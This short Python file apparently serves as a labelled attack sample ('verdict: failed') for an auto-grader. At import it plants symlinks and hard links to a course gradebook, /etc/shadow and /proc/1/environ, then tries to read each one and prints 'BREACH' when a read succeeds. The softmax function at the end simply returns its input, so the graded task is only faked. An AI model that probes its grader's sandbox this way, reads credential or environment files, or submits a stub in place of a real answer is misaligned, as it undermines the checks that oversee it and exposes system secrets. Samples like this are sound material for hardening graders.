"""Plants links and hard links where a grader might follow them."""
# verdict: failed
import os

for target in ("@course@/gradebook.db", "/etc/shadow", "/proc/1/environ"):
    for make in (os.symlink, os.link):
        path = os.path.join(os.path.expanduser("~"), f"attacked-{make.__name__}")
        try:
            make(target, path)
            print("BREACH", open(path, "rb").read(10))
        except OSError:
            pass
        finally:
            if os.path.lexists(path):
                os.unlink(path)


def softmax(x, dim=-1):
    return x
